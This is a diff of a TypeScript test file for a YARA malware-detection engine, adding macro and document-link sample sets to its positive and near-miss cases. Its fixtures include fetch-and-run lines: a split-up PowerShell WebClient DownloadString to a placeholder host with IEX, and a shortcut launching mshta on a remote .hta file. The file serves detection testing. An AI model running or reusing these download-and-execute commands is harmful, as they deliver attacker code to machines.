@@ -3,6 +3,9 @@ import { readRuleSet } from '../../../server/engines/rule-set.ts';
 import { createYaraEngine, type YaraEngine } from '../../../server/engines/yara-engine.ts';
 import { makeEicar } from '../../../server/samples/make-eicar.ts';
 import { makePdf } from '../../../server/samples/make-pdf.ts';
+import { DOCUMENT_LINK_NEAR_MISSES, DOCUMENT_LINK_SAMPLES } from './document-link-samples.ts';
+import { MACRO_NEAR_MISSES, MACRO_SAMPLES } from './macro-samples.ts';
+import type { RuleSample } from './rule-sample.ts';
 
 let engine: YaraEngine;
 beforeAll(() => {
@@ -45,7 +48,7 @@ const smuggle = (data: string, store: string): string =>
 const webClient = ['(New-Object Net.Web', 'Client).Down', "loadString('https://x.example/a.ps1')"].join('');
 const iex = ['I', 'EX'].join('');
 
-const POSITIVE: [rule: string, name: string, content: () => string | Buffer][] = [
+const POSITIVE: RuleSample[] = [
   ['EICAR_Test_File', 'a.txt', makeEicar],
   ['EICAR_Test_File', 'a.txt', () => Buffer.concat([makeEicar(), Buffer.from('\r\n')])],
   ['Executable_Named_As_Document', 'invoice.pdf', makePe],
@@ -118,11 +121,13 @@ const POSITIVE: [rule: string, name: string, content: () => string | Buffer][] =
     'a.lnk',
     () => makeLnk('C:\\Windows\\System32\\mshta.exe http://x.example/a.hta'),
   ],
+  ...MACRO_SAMPLES,
+  ...DOCUMENT_LINK_SAMPLES,
   ['HTML_Smuggles_File', 'a.html', () => smuggle(base64, 'a.download = "x.zip"')],
   ['HTML_Smuggles_File', 'a.html', () => smuggle(base64, 'navigator.msSaveOrOpenBlob(b, "x.zip")')],
 ];
 
-const NEAR_MISS: [what: string, name: string, content: () => string | Buffer][] = [
+const NEAR_MISS: RuleSample[] = [
   ['the test string later in a text', 'a.txt', () => `See: ${makeEicar().toString()}`],
   ['the test string in a long file', 'a.txt', () => Buffer.concat([makeEicar(), Buffer.alloc(100, 32)])],
   ['a program under its own ending', 'setup.exe', makePe],
@@ -173,6 +178,8 @@ const NEAR_MISS: [what: string, name: string, content: () => string | Buffer][] 
   ['a PDF with a link to a script', 'a.pdf', () => '%PDF-1.4\n<< /S /JavaScript /JS (this.print()) >>'],
   ['a PDF that opens on a page', 'a.pdf', () => '%PDF-1.4\n<< /OpenAction [3 0 R /Fit] >>'],
   ['a PDF that launches a document', 'a.pdf', () => '%PDF-1.4\n<< /S /Launch /F (chapter2.pdf) >>'],
+  ...MACRO_NEAR_MISSES,
+  ...DOCUMENT_LINK_NEAR_MISSES,
   ['a shortcut to a program', 'a.lnk', () => makeLnk('C:\\Program Files\\App\\app.exe --open')],
   ['a page that stores a small text', 'a.html', () => smuggle('aGVsbG8=', 'a.download = "x.txt"')],
   [
